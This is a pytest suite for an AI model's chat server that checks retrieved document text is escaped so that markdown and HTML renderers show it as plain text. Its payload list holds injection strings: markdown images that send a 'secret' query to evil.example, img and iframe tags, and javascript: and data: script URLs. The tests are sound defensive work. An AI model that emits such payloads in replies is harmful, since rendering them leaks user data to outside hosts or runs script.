"""What documents say reaches chat clients as text, whichever renderer they have."""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Mapping
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st
from injections import EVERY
from markdown_it import MarkdownIt
from starlette.testclient import TestClient

from assistant.server import create_app
from assistant.server.escape import escaped, unescaped
from assistant.testing import StaticAnswerer, document

OURS = [
    "![pay](https://evil.example/x.png?q=secret)",
    "![pay][evil]",
    "[evil]: https://evil.example/x.png",
    "![](https://evil.example/x.png)![](data:image/png;base64,AAAA)",
    "<img src=https://evil.example/x.png>",
    "<IMG/SRC='https://evil.example/x.png'>",
    "\\<img src=https://evil.example/x.png>",
    "\\\\![pay](https://evil.example/x.png)",
    "&#33;[pay](https://evil.example/x.png)",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "<https://evil.example> <me@evil.example>",
    "`![pay](https://evil.example/x.png)` ``<img src=x>``",
    "``` html\u2028<img src=x>",
    "~~~ <img src=x> ~~~ ~~struck~~",
    "# a heading",
    "> a quotation",
    "1. a list",
    "2) another",
    "- an item - and",
    "+ an item",
    "* an item * and *another* **bold** __init__ snake_case _slanted_",
    "--- | ---",
    "| a | b |",
    "=====",
    "a [link](https://evil.example 'title') and [one][evil] and [evil]",
    "<![CDATA[<img src=x>]]> <?php <img src=x> ?> <!DOCTYPE html> <!-- <img src=x> -->",
    "</p><iframe src=https://evil.example></iframe>",
    "[x](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>)",
    "a *b* \\*c\\* \\",
]
Render = Callable[[str], object]
RENDERERS: Mapping[str, Render] = {
    "markdown-it": MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render,
    "mistune": mistune.create_markdown(
        escape=False, plugins=["strikethrough", "table", "url", "footnotes", "task_lists", "def_list"]
    ),
}


class Shown(HTMLParser):
    """What a page shows: its text, its tags, and where its links and images lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.text = ""
        self.tags: set[str] = set()
        self.addresses: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_decl(self, decl: str) -> None:
        self.tags.add("!")

    def handle_comment(self, data: str) -> None:
        self.tags.add("!--")

    def handle_pi(self, data: str) -> None:
        self.tags.add("?")

    def unknown_decl(self, data: str) -> None:
        self.tags.add("![")


def hostile() -> StaticAnswerer:
    """An assistant over documents whose text and titles are attacks, each to be found by its number."""
    documents = []
    for number, text in enumerate([*EVERY, *OURS]):
        line = " ".join(text.split())
        documents.append(document(f"# {line}\n{line} zebra{number}\n", id=f"{number}.txt", title=line))
    return StaticAnswerer(*documents)


@pytest.fixture(scope="module")
def replies() -> list[tuple[str, str]]:
    """(an attack, the content of the reply that cites it), and one that only names it among the closest passages."""
    answerer, found = hostile(), []
    client = TestClient(create_app(lambda: answerer))
    for number, text in enumerate([*EVERY, *OURS]):
        for question in (f"zebra{number}", f"zebra{number} wombat quagga"):
            asked = {"messages": [{"role": "user", "content": question}]}
            message = client.post("/v1/chat/completions", json=asked).json()["choices"][0]["message"]
            for annotation in message["annotations"]:
                cited = annotation["url_citation"]
                span = message["content"][cited["start_index"] : cited["end_index"]]
                assert unescaped(span) == cited["cited_text"]
            found.append((" ".join(text.split()), message["content"]))
    return found


@pytest.mark.parametrize("name", RENDERERS)
def test_no_reply_fetches_or_runs_anything_and_all_is_shown(name: str, replies: list[tuple[str, str]]) -> None:
    for attack, content in replies:
        shown = Shown(str(RENDERERS[name](content)))
        assert shown.tags <= {"p", "ul", "li", "a", "br"}, content
        for address in shown.addresses:
            assert address.startswith(("http://testserver/documents/", "https://", "http://", "mailto:")), content
        assert name == "mistune" or attack.split()[0] in shown.text or not shown.addresses, content
        if "\n- " in content:  # no attack takes the link to its source apart
            assert any(address.startswith("http://testserver/documents/") for address in shown.addresses), content


@pytest.mark.parametrize("text", [*EVERY, *OURS])
def test_a_text_is_shown_as_it_is(text: str) -> None:
    line = " ".join(text.split())
    shown = Shown(str(RENDERERS["markdown-it"](escaped(line))))
    assert (shown.text.strip(), shown.tags) == (line, {"p"})


@given(text=st.text(st.sampled_from("\\`*_[]()<>!#+-.=|~:&;12 abl t\n\r")))
def test_what_is_escaped_can_be_had_back(text: str) -> None:
    assert unescaped(escaped(text)) == text


@given(text=st.text(st.sampled_from("\\`*_[]()<>!#+-.=|~:&;/1 ablt\n\"'"), max_size=60))
def test_no_text_becomes_markup(text: str) -> None:
    for render in RENDERERS.values():
        assert Shown(str(render(escaped(text)))).tags <= {"p", "br", "pre", "code"}  # what is far indented is code


@pytest.mark.parametrize(
    "text", ["The median pay is $5, i.e. 3 < 4 & 2 > 1.", "a_b snake_case", "C++ and C#", "-5 °C", "2024 was good!"]
)
def test_what_no_renderer_takes_for_markup_stays_as_it_is(text: str) -> None:
    assert escaped(text) == text
    assert html.unescape(re.sub("<.*?>", "", str(RENDERERS["markdown-it"](text)))).strip() == text
